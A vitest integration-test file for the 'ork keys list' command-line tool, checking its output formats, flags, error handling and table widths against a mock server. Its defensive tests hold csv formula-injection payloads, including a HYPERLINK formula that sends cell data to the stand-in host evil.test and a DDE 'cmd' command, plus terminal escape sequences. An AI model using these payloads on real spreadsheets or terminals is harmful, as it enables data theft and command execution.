// Integration: the BUILT `ork keys list` as a child process against the mock over real HTTP.
import { type MockServer, type MockServerOptions, OTHER_WORKSPACE_ID } from '@openrouter-kit/mock'
import type { ApiKey } from '@openrouter-kit/types'
import { parse } from 'csv-parse/sync'
import stringWidth from 'string-width'
import { describe, expect, test } from 'vitest'
import { COLUMN_IDS } from '../output/column-ids'
import { displayWidth } from '../output/unicode-width'
import { makeKey } from '../testing/make-key'
import { mockFixture } from '../testing/mock-fixture'

const startMock = mockFixture()

/** A mock, and `ork keys list` run against it. */
async function start(options: MockServerOptions = {}) {
  const { mock, url, ork } = await startMock(options)
  const listKeys = (args: string[], extra: Record<string, string> = {}) =>
    ork(['keys', 'list', ...args], extra)
  return { mock, url, ork: listKeys }
}

const keysRequests = (mock: MockServer) => mock.requests.filter((r) => r.path.endsWith('/keys'))

/**
 * A mock whose first page is exactly `keys`, sent verbatim as JSON (so fields may hold anything
 * a broken or hostile server could send), then an empty page.
 */
function serve(keys: readonly unknown[]) {
  return start({ keys: [], faults: [{ body: JSON.stringify({ data: keys }) }] })
}

/** A key as the server sends it, with any field replaced by any value. */
const sent = (hash: string, fields: Record<string, unknown>) =>
  ({ ...makeKey({ hash: hash.repeat(64) }), ...fields }) as unknown as ApiKey

describe('formats', () => {
  test('--format json is every key of every page, exactly as the API sent them', async () => {
    const { mock, ork } = await start({ seed: 23, pageSize: 10 })
    const result = await ork(['--format', 'json'])
    expect(result).toMatchObject({ code: 0, stderr: '' })
    const keys = mock.listKeys()
    expect(JSON.parse(result.stdout)).toEqual(keys)
    expect(keys.length).toBeGreaterThan(10)
    // From offset 0, page after page: at least one request per page of 10. (How the pages
    // overlap and how many are fetched ahead is the client's listing strategy, tested there.)
    const offsets = keysRequests(mock).map((r) => Number(r.query.offset))
    expect(offsets[0]).toBe(0)
    expect(offsets.length).toBeGreaterThanOrEqual(Math.ceil(keys.length / 10))
  })

  test('--json is the same as --format json', async () => {
    const { ork } = await start({ seed: 3 })
    const [short, long] = await Promise.all([ork(['--json']), ork(['--format', 'json'])])
    expect(short.code).toBe(0)
    expect(short.stdout).toBe(long.stdout)
  })

  test('jsonl is one key per line', async () => {
    const { mock, ork } = await start({ seed: 12, pageSize: 5 })
    const result = await ork(['--format', 'jsonl'])
    expect(result.code).toBe(0)
    const lines = result.stdout.trimEnd().split('\n')
    expect(lines.map((line) => JSON.parse(line))).toEqual(mock.listKeys())
  })

  test('csv has a header row of field names and parses back to the same values', async () => {
    const { mock, ork } = await start({
      keys: [
        makeKey({ hash: 'a'.repeat(64), name: 'Team "A", ops\nsecond line', expires_at: null }),
        makeKey({ hash: 'b'.repeat(64), name: 'plain', limit: null, limit_remaining: null }),
      ],
    })
    const result = await ork(['--format', 'csv'])
    expect(result.code).toBe(0)
    const rows: Record<string, string>[] = parse(result.stdout, { columns: true })
    expect(Object.keys(rows[0]!)).toEqual([...COLUMN_IDS])
    const expected = mock
      .listKeys()
      .map((key) =>
        Object.fromEntries(
          COLUMN_IDS.map((column) => [column, key[column] == null ? '' : String(key[column])]),
        ),
      )
    expect(rows).toEqual(expected)
  })

  test('--columns picks csv columns in the given order', async () => {
    const { mock, ork } = await start({ seed: 4 })
    const result = await ork(['--format', 'csv', '--columns', 'usage,name'])
    const [first] = mock.listKeys()
    expect(result.stdout.split('\r\n').slice(0, 2)).toEqual([
      'usage,name',
      `${first!.usage},${first!.name}`,
    ])
  })

  test('table at a fixed width (COLUMNS=110), spelled out', async () => {
    const { ork } = await start({
      keys: [
        makeKey({ hash: 'a'.repeat(64), name: 'Production' }),
        makeKey({
          hash: 'b'.repeat(64),
          name: 'A rather long key name that cannot fit',
          label: 'sk-or-v1-9a1...77ab',
          limit: null,
          limit_remaining: null,
          limit_reset: null,
          usage: 3.1,
          expires_at: null,
        }),
      ],
    })
    const result = await ork([], { COLUMNS: '110' })
    expect(result).toMatchObject({ code: 0, stderr: '' })
    // 110 cells: dates without time of day, the long name cut with … to what is left (15).
    expect(result.stdout).toBe(
      [
        'NAME             LABEL                DISABLED   USAGE                  LIMIT  RESET    CREATED     EXPIRES',
        'Production       sk-or-v1-0e6...1c96  no        $25.50  $100.00 ($74.50 left)  monthly  2025-08-24  2027-12-31',
        'A rather long …  sk-or-v1-9a1...77ab  no         $3.10                      —  —        2025-08-24  never',
        '',
      ].join('\n'),
    )
  })

  test('table of generated keys: one line per key, none wider than COLUMNS, no colour in a pipe', async () => {
    const { mock, ork } = await start({ seed: 30, pageSize: 7 })
    const result = await ork([], { COLUMNS: '72' })
    expect(result.code).toBe(0)
    const lines = result.stdout.trimEnd().split('\n')
    expect(lines).toHaveLength(mock.listKeys().length + 1)
    expect(lines[0]).toMatch(/^NAME +LABEL/)
    for (const line of lines) expect(displayWidth(line)).toBeLessThanOrEqual(72)
    expect(result.stdout).not.toContain('\u001b')
    for (const [index, key] of mock.listKeys().entries()) {
      expect(lines[index + 1]).toContain(key.label)
    }
    // Columns that could not fit are named on stderr, not silently dropped.
    expect(result.stderr).toMatch(/^note: .* hidden to fit 72 columns/)
  })

  test('without COLUMNS and not on a terminal, the table is not cut', async () => {
    const long = 'A key name far longer than any terminal would ever be wide, '.repeat(3).trim()
    const { ork } = await start({ keys: [makeKey({ name: long })] })
    const result = await ork(['--columns', 'name,usage'])
    expect(result.stdout.split('\n')[1]).toBe(`${long}  $25.50`)
  })
})

describe('flags', () => {
  test('--limit stops after n keys, and stops fetching', async () => {
    const { mock, ork } = await start({ seed: 40, pageSize: 10 })
    const result = await ork(['--json', '--limit', '15'])
    expect(JSON.parse(result.stdout)).toEqual(mock.listKeys().slice(0, 15))
    expect(keysRequests(mock)).toHaveLength(2)
  })

  test('--offset fetches exactly one page from that offset', async () => {
    const { mock, ork } = await start({ seed: 40, pageSize: 10 })
    const result = await ork(['--json', '--offset', '5'])
    expect(JSON.parse(result.stdout)).toEqual(mock.listKeys().slice(5, 15))
    expect(keysRequests(mock).map((r) => r.query.offset)).toEqual(['5'])
  })

  test('--offset with --limit cuts that page', async () => {
    const { mock, ork } = await start({ seed: 40, pageSize: 10 })
    const result = await ork(['--json', '--offset', '5', '--limit', '3'])
    expect(JSON.parse(result.stdout)).toEqual(mock.listKeys().slice(5, 8))
  })

  test('--include-disabled adds the disabled keys', async () => {
    const { mock, ork } = await start({ seed: 30 })
    const all = mock.listKeys({ includeDisabled: true })
    expect(all.some((key) => key.disabled)).toBe(true)
    const [without, withDisabled] = await Promise.all([
      ork(['--json']),
      ork(['--json', '--include-disabled']),
    ])
    expect(JSON.parse(without.stdout)).toEqual(mock.listKeys())
    expect(JSON.parse(withDisabled.stdout)).toEqual(all)
    expect(keysRequests(mock).some((r) => r.query.include_disabled === 'true')).toBe(true)
  })

  test('--workspace lists that workspace', async () => {
    const { mock, ork } = await start({ seed: 5 })
    const result = await ork(['--json', '--include-disabled', '--workspace', OTHER_WORKSPACE_ID])
    const keys = JSON.parse(result.stdout)
    expect(keys).toEqual(mock.listKeys({ includeDisabled: true, workspaceId: OTHER_WORKSPACE_ID }))
    expect(keys.length).toBeGreaterThan(0)
    expect(
      keys.every((key: { workspace_id: string }) => key.workspace_id === OTHER_WORKSPACE_ID),
    ).toBe(true)
  })

  test('--columns picks table columns', async () => {
    const { mock, ork } = await start({ seed: 2 })
    const result = await ork(['--columns', 'label,disabled'])
    const [first] = mock.listKeys()
    expect(result.stdout.split('\n').slice(0, 2)).toEqual([
      'LABEL                DISABLED',
      `${first!.label.padEnd(19)}  no`,
    ])
  })

  test('--base-url wins over OPENROUTER_BASE_URL', async () => {
    const { mock, ork, url } = await start({ seed: 2 })
    const result = await ork(['--json', '--base-url', url], {
      OPENROUTER_BASE_URL: 'http://127.0.0.1:9/api/v1',
    })
    expect(result.code).toBe(0)
    expect(JSON.parse(result.stdout)).toEqual(mock.listKeys())
  })
})

describe('empty listing', () => {
  test('one line on stderr, nothing on stdout, exit 0', async () => {
    const { ork } = await start({ keys: [] })
    const result = await ork([])
    expect(result).toEqual({
      code: 0,
      stdout: '',
      stderr: 'No keys found (disabled keys are hidden; add --include-disabled).\n',
    })
  })

  test('machine formats still print valid empty data', async () => {
    const { ork } = await start({ keys: [] })
    const [json, jsonl, csv] = await Promise.all([
      ork(['--json', '--include-disabled']),
      ork(['--format', 'jsonl']),
      ork(['--format', 'csv', '--columns', 'name,usage']),
    ])
    expect(json).toEqual({ code: 0, stdout: '[]\n', stderr: 'No keys found.\n' })
    expect(jsonl.stdout).toBe('')
    expect(csv.stdout).toBe('name,usage\r\n')
  })
})

describe('csv: formula injection', () => {
  const hostile = [
    sent('a', { name: '=HYPERLINK("http://evil.test/?d="&A1,"open")', label: '+SUM(1)' }),
    sent('b', { name: "-2+3+cmd|' /C calc'!A0", label: '@SUM(A1:A2)' }),
    sent('c', { name: '\t=1+1', label: '\r=1+1', created_at: '=NOW()' }),
    sent('d', { name: 'Plain', label: 'a;=1+1', usage: -3.5, limit_remaining: -0.25 }),
  ]
  const columns = 'name,label,created_at,usage,limit_remaining'

  test('by default a text cell that starts like a formula gets a leading quote', async () => {
    const { ork } = await serve(hostile)
    const result = await ork(['--format', 'csv', '--columns', columns])
    expect(result).toMatchObject({ code: 0, stderr: '' })
    const rows: string[][] = parse(result.stdout, { relax_quotes: false })
    expect(rows).toEqual([
      ['name', 'label', 'created_at', 'usage', 'limit_remaining'],
      [
        `'=HYPERLINK("http://evil.test/?d="&A1,"open")`,
        `'+SUM(1)`,
        '2025-08-24T10:30:00Z',
        '25.5',
        '74.5',
      ],
      [`'-2+3+cmd|' /C calc'!A0`, `'@SUM(A1:A2)`, '2025-08-24T10:30:00Z', '25.5', '74.5'],
      [`'\t=1+1`, `'\r=1+1`, `'=NOW()`, '25.5', '74.5'],
      // Numbers are numbers from the API: -3.5 stays -3.5. A `;` is quoted, not prefixed.
      ['Plain', 'a;=1+1', '2025-08-24T10:30:00Z', '-3.5', '-0.25'],
    ])
    expect(result.stdout.split('\r\n')[4]).toBe('Plain,"a;=1+1",2025-08-24T10:30:00Z,-3.5,-0.25')
    // No cell of any row starts with a formula character.
    for (const row of rows.slice(1)) {
      for (const cell of row.slice(0, 3)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    }
  })

  test('--csv-raw writes text cells exactly as sent', async () => {
    const { ork } = await serve(hostile)
    const result = await ork(['--format', 'csv', '--csv-raw', '--columns', columns])
    expect(result.code).toBe(0)
    const rows: string[][] = parse(result.stdout)
    expect(rows.slice(1).map((row) => row.slice(0, 3))).toEqual(
      hostile.map((key) => [key.name, key.label, key.created_at]),
    )
  })

  test('--csv-raw with another format is a usage error, before any request', async () => {
    const { mock, ork } = await start({ seed: 2 })
    const result = await ork(['--csv-raw'])
    expect(result).toEqual({
      code: 2,
      stdout: '',
      stderr: 'error: --csv-raw applies to csv output only, not table\n',
    })
    expect(mock.requests).toHaveLength(0)
  })
})

describe('table: escape sequences never reach the terminal', () => {
  test('every cell is sanitised: names, labels, ids and unparseable timestamps', async () => {
    const escapes = '\u001b]0;owned\u0007\u001b[2J\u009b31m'
    const { ork } = await serve([
      sent('a', {
        name: `name${escapes}`,
        label: `label${escapes}`,
        limit_reset: `reset${escapes}`,
        created_at: `soon${escapes}`,
        expires_at: `later${escapes}`,
        workspace_id: `ws${escapes}`,
        creator_user_id: `user${escapes}`,
      }),
    ])
    const result = await ork(['--columns', COLUMN_IDS.join(',')], { COLUMNS: '400' })
    expect(result.code).toBe(0)
    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters
    expect(result.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
    expect(result.stdout.trimEnd().split('\n')).toHaveLength(2)
    expect(result.stdout).toContain('soon\ufffd]0;owned\ufffd\ufffd[2J\ufffd31m')
  })
})

describe('malformed data: one line, exit 1, no stack', () => {
  test.each([
    ['name', 5, 'table'],
    ['name', { text: 'x' }, 'table'],
    ['usage', '12.50', 'table'],
    ['disabled', 'no', 'table'],
    ['created_at', 1_700_000_000, 'table'],
    ['name', ['x'], 'csv'],
  ])('%s = %j (%s)', async (field, value, format) => {
    const { ork } = await serve([sent('a', {}), sent('b', { [field]: value })])
    const result = await ork(['--format', format, '--columns', `name,usage,disabled,created_at`])
    expect(result.code).toBe(1)
    expect(result.stdout).toBe('')
    expect(result.stderr).toBe(
      `error: unexpected response: the API sent a key (hash bbbbbbbbbbbb…) whose ${field} is ${JSON.stringify(value)}; expected a ${typeof sent('a', {})[field as keyof ApiKey]}\n`,
    )
  })

  test('--debug adds the stack', async () => {
    const { ork } = await serve([sent('a', { name: 5 })])
    const result = await ork(['--debug'])
    expect(result.code).toBe(1)
    expect(result.stderr).toMatch(/^error: unexpected response: [^\n]*whose name is 5[^\n]*\n/m)
    expect(result.stderr).toMatch(/\nMalformedDataError: [^\n]*\n\s+at /)
  })

  test('json and jsonl still pass the keys through exactly as sent', async () => {
    const odd = [sent('a', { name: 5, usage: 'lots' })]
    const { ork } = await serve(odd)
    const result = await ork(['--json'])
    expect(result.code).toBe(0)
    expect(JSON.parse(result.stdout)).toEqual(odd)
  })
})

describe('table widths: symbols, flags and keycaps (string-width)', () => {
  const names = ['Acme© Pro™', 'Deploy ✔ done', '⚠ Legacy', 'Tokyo 🇯🇵', 'Step 1️⃣ first', 'Plain']
  const symbolKeys = names.map((name, index) =>
    makeKey({ hash: String(index).repeat(64), name, label: `sk-or-v1-${index}aa...0000` }),
  )

  const picked = ['--columns', 'name,label,usage,expires_at']
  test.each([
    ['60', []],
    ['60', picked],
    ['72', picked],
    ['100', []],
  ])('COLUMNS=%s %j: no row wider than COLUMNS, and the columns align', async (columns, args) => {
    const { ork } = await start({ keys: symbolKeys })
    const result = await ork(args, { COLUMNS: columns })
    expect(result.code).toBe(0)
    const lines = result.stdout.trimEnd().split('\n')
    expect(lines).toHaveLength(names.length + 1)
    for (const line of lines) expect(stringWidth(line)).toBeLessThanOrEqual(Number(columns))
    // Where LABEL starts (left-aligned) and where USAGE ends (right-aligned), in cells: the
    // same in the header and in every row.
    const cellsBefore = (line: string, text: string, end = false) =>
      stringWidth(line.slice(0, line.indexOf(text) + (end ? text.length : 0)))
    const [header, ...rows] = lines
    for (const [index, row] of rows.entries()) {
      expect(cellsBefore(row!, symbolKeys[index]!.label)).toBe(cellsBefore(header!, 'LABEL'))
      if (header!.includes('USAGE')) {
        expect(cellsBefore(row!, '$25.50', true)).toBe(cellsBefore(header!, 'USAGE', true))
      }
    }
  })
})
